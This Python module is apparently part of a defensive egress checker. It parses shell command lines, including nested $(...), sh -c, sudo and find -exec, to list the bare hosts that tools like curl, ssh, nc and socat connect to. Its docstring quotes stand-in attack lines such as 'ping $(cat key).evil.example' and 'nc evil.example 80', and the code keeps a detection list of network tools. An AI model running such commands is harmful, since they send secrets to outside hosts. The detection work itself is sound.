"""Where a command line connects to: hosts that programs such as `curl` and `ssh` take bare.

Threat: `curl evil.example/x`, `nc evil.example 80`, `ping $(cat key).evil.example`, `</dev/tcp/…`:
none of these hosts has a scheme. Read are programs in the places where a shell looks for one, also
behind `sudo` or `env`, in `$(…)` and after `sh -c`. A host that the shell would only make up
(`curl $HOST`) is a fault. This raises the bar and is no sandbox: what a program of the project's
own connects to is not seen.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator, Sequence

from .hosts import Destination, canonical_host, looks_like_host, short
from .shell import expanded

MAX_CHARS = 20_000
"""Of a longer command line it is only said that it is too long, where it names such a program."""
_DEEPEST = 4

_VALUES = {
    "curl": "odTFKbcDEAuwXmrCYyzHeQtUP",
    "wget": "oOPaiUtTwQABDIlRX",
    "ssh": "iFlpcmbEeIQSoLRDwBO",
    "nc": "pswqIiOPTVXcebegG",
    "ping": "ciIsWtwmMQpSTl",
    "dig": "ptcykbf",
}
"""Options of one letter behind which a value follows that is no host."""
_VALUES |= dict.fromkeys(("ncat", "netcat"), _VALUES["nc"])
_PLAIN = (
    "curlie http https xh lynx w3m links lftp ftp tftp telnet mosh nslookup host whois traceroute "
    "tracepath mtr nmap aria2c axel iwr irm invoke-webrequest invoke-restmethod tnc "
    "test-netconnection autossh ping6 fping httpie drill"
)
_CONNECT = {**dict.fromkeys(_PLAIN.split(), ""), **_VALUES}
"""Programs that take bare hosts, with their options of one letter that take a value."""
_HOSTED = "JWx"
"""Options of one letter behind which a host follows that is only on the way: a jump, a proxy."""
_FIND_RUNS = frozenset(("-exec", "-execdir", "-ok", "-okdir"))
_NO_HOST = re.compile(
    r"--(?:output|output-document|output-file|output-dir|input-file|upload-file|data\S*|form\S*|"
    r"config|cookie|cookie-jar|cert|key|cacert|capath|header|user|user-agent|request|method|"
    r"max-time|connect-timeout|retry\S*|write-out|dump-header|trace\S*|post-file|post-data|"
    r"body-file|body-data|directory-prefix|timeout|limit-rate|range|referer|password|json)"
)
"""Long options behind which a value follows that is no host."""
_FIRST, _COPY, _GIT_REMOTE, _BEFORE, _SHELLS = (
    frozenset(words.split())
    for words in (
        # Only the first argument is a host.
        "ssh mosh autossh telnet nc ncat netcat ping ping6 ftp tftp",
        # A host is what stands before a colon; for git after some of its commands.
        "scp rsync sftp git rclone openssl",
        "clone fetch pull push remote ls-remote submodule archive",
        # What may stand before a program.
        "sudo doas env nohup time timeout exec command xargs nice setsid watch busybox start "
        "if then else elif while until do ! {",
        # What reads commands in its turn.
        "sh bash dash zsh ksh ash fish eval powershell pwsh cmd su",
    )
)
_NAMED = re.compile(
    r"(?<![\w.-])(?:" + "|".join(map(re.escape, sorted({*_CONNECT, *_COPY, "socat"}))) + r")\b",
    re.IGNORECASE,
)
_QUOTES = re.compile(r"""["'\\]""")
_BRACES = re.compile(r"\{([A-Za-z][^{}\s,\"']*(?:,[^{}\s,\"']*)+)\}")
_KNOWN = frozenset((*_CONNECT, *_COPY, *_BEFORE, *_SHELLS, "find", "socat"))
_BLANK = re.compile(r"\s")
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)")
_SOCAT = re.compile(r"(?:tcp|udp|openssl|ssl|sctp|dtls|socks|proxy)\w*:([^:,]+)", re.IGNORECASE)
_INNER = re.compile(r"\$\(([^()]*)\)|`([^`]*)`")
_ASSIGNED = re.compile(r"[A-Za-z_]\w*=")
_MADE_UP = re.compile(r"\$(?:\{[^}]{0,64}\}|\w+|[@*#?$!])")
_HOST_ENDS = re.compile(r"[:/?#]")
_NUMBER = re.compile(r"[0-9]+(?:\.[0-9]+)?|0x[0-9a-f]{1,8}", re.IGNORECASE)
_SMALLEST_ADDRESS = 1 << 24
"""A bare number below it is a port, a count or a time."""
_SEPARATE = frozenset(";|&()\n")


def command_hosts(text: str) -> Iterator[Destination]:
    """Every host to which a command line connects without a scheme in front. May repeat itself."""
    for match in _DEVICE.finditer(text):
        yield _destination(match[1])
    text = _BRACES.sub(lambda m: m[1].replace(",", " "), expanded(text))
    if _NAMED.search(_QUOTES.sub("", text)):
        if len(text) > MAX_CHARS:
            yield Destination("", short(text), f"a command of more than {MAX_CHARS} characters")
        else:
            yield from _read(text, _DEEPEST)


def names_program(text: str) -> bool:
    """Whether a text is the name of a program that is looked into, and nothing else."""
    return len(text) < 256 and _program(text.strip()) in _KNOWN


def argv_hosts(words: Sequence[str]) -> Iterator[Destination]:
    """The same of a command that is given as a program and its arguments."""
    yield from _of_command(words, _DEEPEST)


def _read(text: str, depth: int) -> Iterator[Destination]:
    if not depth:
        yield Destination("", short(text), "commands within commands within commands")
        return
    inner: list[str] = []

    def taken(match: re.Match[str]) -> str:
        inner.append(match[1] or match[2] or "")
        return "$_"

    for _ in range(_DEEPEST):
        text, found = _INNER.subn(taken, text)
        if not found:
            break
    for part in inner:
        yield from _read(part, depth - 1)
    for words in _commands(text):
        yield from _of_command(words, depth)


def _commands(text: str) -> Iterator[list[str]]:
    """The commands of a line as lists of words, quotes taken off."""
    lexer = shlex.shlex(text, posix=True, punctuation_chars=";|&()\n<>")
    lexer.whitespace, lexer.whitespace_split, lexer.commenters = " \t\r", True, ""
    words: list[str] = []
    try:
        for word in lexer:
            if _SEPARATE.issuperset(word):
                yield words
                words = []
            else:
                words.append(word)
    except ValueError:  # a quote without its end: read on without quotes
        words += text.replace('"', " ").replace("'", " ").split()
    yield words


def _of_command(words: Sequence[str], depth: int) -> Iterator[Destination]:
    in_shell = False
    for at, word in enumerate(words):
        name = _program(word)
        if name in _SHELLS and not in_shell:
            in_shell = True
            for later in words[at + 1 :]:
                if _BLANK.search(later):
                    yield from _read(later, depth - 1)
        if name in _CONNECT:
            yield from _arguments(name, words[at + 1 :])
            return
        if name in _COPY:
            yield from _copied(name, words[at + 1 :])
            return
        if name == "socat":
            for found in filter(None, map(_SOCAT.match, words[at + 1 :])):
                yield _destination(found[1])
            return
        if name == "find":
            yield from _run_by_find(words[at + 1 :], depth)
            return
        # An option and its value, a number or an assignment belongs to the word before it.
        is_value = at > 0 and words[at - 1][:1] in ("-", "<", ">")
        of_before = name in _BEFORE or name in _SHELLS or word[:1] in "-<>" or word[:1].isdigit()
        if not (of_before or is_value or _ASSIGNED.match(word)):
            return


def _run_by_find(words: Sequence[str], depth: int) -> Iterator[Destination]:
    starts = [at for at, word in enumerate(words) if word in _FIND_RUNS]
    for start, end in zip(starts, [*starts[1:], len(words)], strict=True):
        yield from _of_command(words[start + 1 : end], depth)


def _program(word: str) -> str:
    return word[max(word.rfind("/"), word.rfind("\\")) + 1 :].casefold().removesuffix(".exe")


def _arguments(program: str, words: Sequence[str]) -> Iterator[Destination]:
    """The hosts among the arguments of a program that takes them bare."""
    before = ""
    for word in words:
        is_value = _takes_value(before, _CONNECT[program])
        way_there, before = _takes_value(before, _HOSTED), word
        if is_value or word[:1] in ("<", ">"):
            continue
        option = word[:1] == "-"
        if option:
            name, equals, word = word.partition("=")
            if not equals or _NO_HOST.fullmatch(name):
                continue
        if "://" not in word:  # with a scheme it is found as a link
            yield from _bare(word.removeprefix("@"))
        if program in _FIRST and not (option or way_there):
            return


def _takes_value(option: str, valued: str) -> bool:
    """Whether what follows an option is its value, and no host."""
    if option[:2] == "--":
        return _NO_HOST.fullmatch(option) is not None
    letters = option[1:] if option[:1] == "-" else ""
    at = next((at for at, letter in enumerate(letters) if letter in valued), None)
    return at is not None and at == len(letters) - 1


def _copied(program: str, words: Sequence[str]) -> Iterator[Destination]:
    """The hosts before a colon."""
    if program == "git" and not _GIT_REMOTE.intersection(words):
        return
    if program == "openssl" and "s_client" not in words:
        return
    for word in words:
        if ":" in word and "://" not in word and word[:1] != "-":
            yield from _bare(word)


def _bare(word: str) -> Iterator[Destination]:
    host = _HOST_ENDS.split(word.rpartition("@")[2] if "@" in word else word, maxsplit=1)[0]
    if word[:1] == "[":
        host = word[: word.find("]") + 1]
    if "$" in host:
        rest = _MADE_UP.sub("\0", host).rpartition("\0")[2]
        if rest[:1] == "." and looks_like_host(rest[1:]):
            host = "x" + rest  # what the shell puts in front of a known domain
        else:
            yield Destination("", short(word), "the shell makes up where it leads")
            return
    if _NUMBER.fullmatch(host):
        small = "." in host or int(host, 0 if host[:2].lower() == "0x" else 10) < _SMALLEST_ADDRESS
        if small:
            return
    elif not looks_like_host(host.casefold()) and not word.startswith("["):
        return
    if canonical_host(host) is not None:
        yield _destination(host)


def _destination(host: str) -> Destination:
    known = canonical_host(host)
    if known is None:
        return Destination("", short(host), "it is no well-formed host")
    return Destination(known, short(host))
